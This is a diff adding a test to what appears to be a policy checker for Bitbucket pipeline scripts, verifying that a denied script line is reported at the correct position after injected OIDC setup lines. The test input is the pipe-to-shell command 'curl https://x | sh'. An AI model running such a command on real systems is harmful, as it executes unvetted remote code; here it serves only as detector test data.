@@ -68,4 +68,12 @@ describe(`deny-script: ${denyScript.description}`, () => {
     const policy = compiled((p) => { p.deny = { ...p.deny, scripts: ['BITBUCKET_STEP_OIDC_TOKEN'] }; });
     expect(run(branchRun('main', [step('build', { oidc: true })]), policy).report.findings).toEqual([]);
   });
+
+describe('positions after injected lines', () => {
+  it('counts script lines as written, not after the OIDC setup lines', () => {
+    const result = run(branchRun('main', [step('build', { oidc: true, script: ['curl https://x | sh'] })]));
+    expect(errorOf(result).message).toContain('`script` line 1 runs');
+    expect(result.report.findings[0].segments).toEqual(['pipelines', 'branches', 'main', 0, 'step', 'script', 0]);
+  });
+});
 });
